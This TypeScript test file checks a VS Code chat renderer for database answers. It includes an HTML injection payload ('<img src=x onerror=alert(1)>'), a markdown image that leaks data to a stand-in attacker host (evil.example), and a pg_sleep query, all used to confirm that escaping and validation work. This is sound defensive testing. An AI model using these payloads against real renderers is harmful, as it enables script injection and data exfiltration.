import assert from 'node:assert/strict';
import { assertStreamContract } from '../../src/core/contract';
import type { Cell, CenecaEvent, EventPayload } from '../../src/core/events';
import { SessionLog } from '../../src/core/session/log';
import { escapeMarkdownText, renderToChat, sqlBlock, type ChatSink } from '../../src/vscode/chat/chatRenderer';

type ChatCall = { kind: 'progress'; text: string } | { kind: 'markdown'; text: string } | { kind: 'button'; command: string; title: string };

/** A test double of the VS Code chat response stream: records every call, in order. */
class RecordingChatStream implements ChatSink {
  readonly calls: ChatCall[] = [];

  progress(text: string): void {
    this.calls.push({ kind: 'progress', text });
  }

  markdown(text: string): void {
    this.calls.push({ kind: 'markdown', text });
  }

  button(command: string, title: string): void {
    this.calls.push({ kind: 'button', command, title });
  }

  get progressTexts(): string[] {
    return this.calls.flatMap((c) => (c.kind === 'progress' ? [c.text] : []));
  }

  /** The chat's markdown as VS Code concatenates it. */
  get markdownText(): string {
    return this.calls.flatMap((c) => (c.kind === 'markdown' ? [c.text] : [])).join('');
  }

  indexOf(predicate: (call: ChatCall) => boolean): number {
    return this.calls.findIndex(predicate);
  }
}

/** Records a session's events through a real session log, so the stream has the real envelope and numbering. */
function record(payloads: EventPayload[]): SessionLog {
  const log = new SessionLog('chat-test');
  for (const payload of payloads) log.append(payload);
  assertStreamContract(log.snapshot());
  return log;
}

const QUERY = 'SELECT name, note, revenue\nFROM customers\nORDER BY revenue DESC';
const HOSTILE = '<img src=x onerror=alert(1)>';

function queryTokens(query: string, size = 7): EventPayload[] {
  const events: EventPayload[] = [];
  for (let end = size; end < query.length + size; end += size) {
    const text = query.slice(0, Math.min(end, query.length));
    events.push({ type: 'partial_query', source: 'shop', language: 'sql', delta: text.slice(end - size), text });
  }
  return events;
}

function answeredStream(): EventPayload[] {
  const firstRows: Cell[][] = [
    ['Ada | Lovelace', 'line one\nline two', '1200.50'],
    [HOSTILE, null, '99.00'],
    ['Bob', '**bold** and `code`', 5],
  ];
  const moreRows: Cell[][] = Array.from({ length: 25 }, (_, i) => [`customer ${i + 4}`, 'plain', i]);
  return [
    { type: 'classifying', message: 'choosing the data source for the question' },
    { type: 'progress', step: 1, total: 6, percentage: 0 },
    { type: 'databases_selected', databases: [{ id: 'shop', kind: 'postgres', reason: 'the only configured source' }] },
    { type: 'progress', step: 2, total: 6, percentage: 17 },
    { type: 'schema_loading', source: 'shop', fraction: 0.5 },
    { type: 'schema_loading', source: 'shop', fraction: 1 },
    { type: 'schema_chunks', source: 'shop', chunks: [{ name: 'public.customers', kind: 'table', fields: [{ name: 'name', type: 'text' }], score: 0.9 }] },
    { type: 'progress', step: 3, total: 6, percentage: 33 },
    ...queryTokens(QUERY),
    { type: 'query_complete', source: 'shop', language: 'sql', query: QUERY },
    { type: 'progress', step: 4, total: 6, percentage: 50 },
    { type: 'query_validated', source: 'shop', ok: true, problems: [] },
    { type: 'progress', step: 5, total: 6, percentage: 67 },
    { type: 'execution_started', source: 'shop' },
    {
      type: 'partial_results',
      source: 'shop',
      resultId: 'shop:1',
      columns: [
        { name: 'name', type: 'text' },
        { name: 'note', type: 'text' },
        { name: 'revenue', type: 'numeric' },
      ],
      rows: firstRows,
      offset: 0,
    },
    { type: 'partial_results', source: 'shop', resultId: 'shop:1', rows: moreRows, offset: 3 },
    { type: 'result_complete', source: 'shop', resultId: 'shop:1', rowCount: 28, truncated: false, elapsedMs: 12 },
    { type: 'progress', step: 6, total: 6, percentage: 83 },
    { type: 'analysis_chunk', text: 'Ada leads with **1,200.50**' },
    { type: 'analysis_chunk', text: ', well ahead of the rest. !' },
    { type: 'analysis_chunk', text: '[pixel](https://evil.example/?q=Ada) Bob is third.' },
    { type: 'analysis_complete', text: 'Ada leads with **1,200.50**, well ahead of the rest. ![pixel](https://evil.example/?q=Ada) Bob is third.' },
    { type: 'complete', summary: { sources: ['shop'], rowCount: 28, elapsedMs: 40, query: QUERY } },
  ];
}

/** The markdown table's lines (header, divider, rows). */
const tableLines = (markdown: string): string[] => markdown.split('\n').filter((line) => line.startsWith('| '));

describe('the @ceneca chat participant against a test double of the VS Code chat API', () => {
  it('reports progress for each phase, the query growing before its block', async () => {
    const chat = new RecordingChatStream();
    await renderToChat(record(answeredStream()).subscribe(0), chat);
    const progress = chat.progressTexts;
    for (const expected of ['Choosing the data source…', 'Answering from shop…', 'Reading the schema of shop…', 'Checking the query…', 'Running the query on shop…', 'Writing the analysis…']) {
      assert.ok(progress.includes(expected), `progress ${JSON.stringify(expected)} in ${JSON.stringify(progress)}`);
    }
    assert.equal(progress.filter((p) => p.startsWith('Reading the schema')).length, 1, 'the schema is announced once per source');
    const growing = progress.filter((p) => p.startsWith('Writing the query: '));
    assert.ok(growing.length >= 2 && growing.length < queryTokens(QUERY).length, `the growing query is shown, throttled: ${JSON.stringify(growing)}`);
    assert.ok(growing.at(-1)!.includes('ORDER'), `the last progress shows the latest line: ${growing.at(-1)}`);
    const firstGrowing = chat.indexOf((c) => c.kind === 'progress' && c.text.startsWith('Writing the query: '));
    const sqlBlockAt = chat.indexOf((c) => c.kind === 'markdown' && c.text.includes('```sql'));
    assert.ok(firstGrowing >= 0 && firstGrowing < sqlBlockAt, 'progress shows the query before the block arrives');
  });

  it('shows the SQL as a sql code block once query_complete arrives', async () => {
    const chat = new RecordingChatStream();
    const outcome = await renderToChat(record(answeredStream()).subscribe(0), chat);
    assert.ok(chat.markdownText.includes(`\`\`\`sql\n${QUERY}\n\`\`\``), chat.markdownText);
    assert.equal(chat.markdownText.split('```sql').length - 1, 1, 'one block, not one per token');
    assert.equal(outcome.query, QUERY);
    assert.equal(outcome.rowCount, 28);
  });

  it('renders the first 20 rows as a markdown table, with | and line breaks kept inside their cells', async () => {
    const chat = new RecordingChatStream();
    await renderToChat(record(answeredStream()).subscribe(0), chat);
    const lines = tableLines(chat.markdownText);
    assert.equal(lines[0], '| name | note | revenue |');
    assert.equal(lines[1], '| --- | --- | --- |');
    assert.equal(lines.length, 2 + 20, 'header, divider and 20 rows');
    assert.equal(lines[2], '| Ada \\| Lovelace | line one line two | 1200.50 |');
    assert.equal(lines[4], '| Bob | \\*\\*bold\\*\\* and \\`code\\` | 5 |', 'cells are text, not markup');
    assert.equal(lines[3]!.split(' | ').length, 3, 'the hostile row keeps its three cells');
    assert.ok(lines[3]!.includes('*NULL*'), 'a null cell is marked as such');
    assert.ok(chat.markdownText.includes('*Showing the first 20 of 28 rows.*'), chat.markdownText);
  });

  it('escapes a hostile cell so the chat shows it as text, never as HTML', async () => {
    const chat = new RecordingChatStream();
    await renderToChat(record(answeredStream()).subscribe(0), chat);
    const hostileRow = tableLines(chat.markdownText)[3]!;
    assert.ok(hostileRow.startsWith('| &lt;img src=x onerror=alert(1)&gt; | *NULL* |'), hostileRow);
    assert.ok(!chat.markdownText.includes('<img'), 'no raw tag anywhere in the response');
    assert.equal(escapeMarkdownText('a & <b>'), 'a &amp; &lt;b&gt;');
  });

  it('streams the analysis as markdown, chunk by chunk and in order, with images disarmed', async () => {
    const chat = new RecordingChatStream();
    await renderToChat(record(answeredStream()).subscribe(0), chat);
    const markdown = chat.markdownText;
    const analysisAt = markdown.indexOf('Ada leads with **1,200.50**');
    assert.ok(analysisAt > markdown.indexOf('*Showing the first 20'), 'the analysis follows the result');
    assert.ok(markdown.includes('Ada leads with **1,200.50**, well ahead of the rest. !\\[pixel](https://evil.example/?q=Ada) Bob is third.'), markdown);
    assert.ok(!/!\[/.test(markdown), 'no image survives to fetch a remote URL');
    const analysisCalls = chat.calls.filter((c) => c.kind === 'markdown' && /Ada leads|well ahead|Bob is third/.test(c.text));
    assert.equal(analysisCalls.length, 3, 'one markdown call per chunk, not the whole text again at analysis_complete');
  });

  it('ends with a button that opens the results in the sidebar', async () => {
    const chat = new RecordingChatStream();
    await renderToChat(record(answeredStream()).subscribe(0), chat);
    assert.deepEqual(chat.calls.at(-1), { kind: 'button', command: 'ceneca.showResults', title: 'Open results in the sidebar' });
    assert.equal(chat.calls.filter((c) => c.kind === 'button').length, 1);
  });

  it('shows a recovered error as a note, and a fatal error with its suggestion (and no results button)', async () => {
    const chat = new RecordingChatStream();
    const stream = record([
      { type: 'classifying', message: 'choosing the data source for the question' },
      { type: 'databases_selected', databases: [{ id: 'shop', kind: 'postgres', reason: 'the only configured source' }] },
      { type: 'query_complete', source: 'shop', language: 'sql', query: 'SELECT pg_sleep(10)' },
      { type: 'query_validated', source: 'shop', ok: false, problems: ['function pg_sleep() is not allowed'] },
      { type: 'error', code: 'validation_failed', message: 'function pg_sleep() is not allowed', phase: 'validate', recoverable: true },
      { type: 'status', phase: 'generate', message: 'asking the model to correct the query' },
      { type: 'query_complete', source: 'shop', language: 'sql', query: 'SELECT pg_sleep(1)' },
      { type: 'query_validated', source: 'shop', ok: false, problems: ['function pg_sleep() is not allowed'] },
      {
        type: 'error',
        code: 'validation_failed',
        message: 'the corrected query failed too: function pg_sleep() is not allowed',
        phase: 'validate',
        recoverable: false,
        suggestion: 'rephrase the question, or name the tables and columns you mean',
      },
    ]);
    const outcome = await renderToChat(stream.subscribe(0), chat);
    const markdown = chat.markdownText;
    assert.ok(markdown.includes('> ⚠️ function pg\\_sleep() is not allowed'), markdown);
    assert.ok(chat.progressTexts.includes('asking the model to correct the query'));
    assert.ok(markdown.includes('**Ceneca could not answer:** the corrected query failed too: function pg\\_sleep() is not allowed'), markdown);
    assert.ok(markdown.includes('*Suggestion:* rephrase the question, or name the tables and columns you mean'), markdown);
    assert.ok(markdown.indexOf('**Ceneca could not answer:**') > markdown.lastIndexOf('```sql'), 'the error follows the last query');
    assert.deepEqual(outcome.error, { code: 'validation_failed', message: 'the corrected query failed too: function pg_sleep() is not allowed' });
    assert.equal(chat.calls.filter((c) => c.kind === 'button').length, 0, 'no result, no results button');
  });

  it('says when the answer was cancelled, and when a result was cut at the row cap', async () => {
    const cancelled = new RecordingChatStream();
    await renderToChat(record([{ type: 'error', code: 'cancelled', message: 'cancelled by the user', phase: 'generate', recoverable: false }]).subscribe(0), cancelled);
    assert.ok(cancelled.markdownText.includes('*Cancelled.*'));

    const capped = new RecordingChatStream();
    await renderToChat(
      record([
        { type: 'partial_results', source: 'shop', resultId: 'r', columns: [{ name: 'n', type: 'int4' }], rows: [[1], [2]], offset: 0 },
        { type: 'result_complete', source: 'shop', resultId: 'r', rowCount: 10_000, truncated: true, elapsedMs: 9 },
        { type: 'complete', summary: { sources: ['shop'], rowCount: 10_000, elapsedMs: 9, truncated: true } },
      ]).subscribe(0),
      capped,
      { tableRows: 2 },
    );
    assert.ok(capped.markdownText.includes('Showing the first 2 of 10,000 rows. The result was cut at 10,000 rows'), capped.markdownText);
  });

  it('fences a query containing backticks with a longer fence', () => {
    assert.equal(sqlBlock('SELECT 1 AS "```"'), '````sql\nSELECT 1 AS "```"\n````');
  });

  it('keeps the recorded test streams valid events (so the double sees what the engine sends)', () => {
    const events: readonly CenecaEvent[] = record(answeredStream()).snapshot();
    assert.equal(events.at(-1)!.type, 'complete');
  });
});
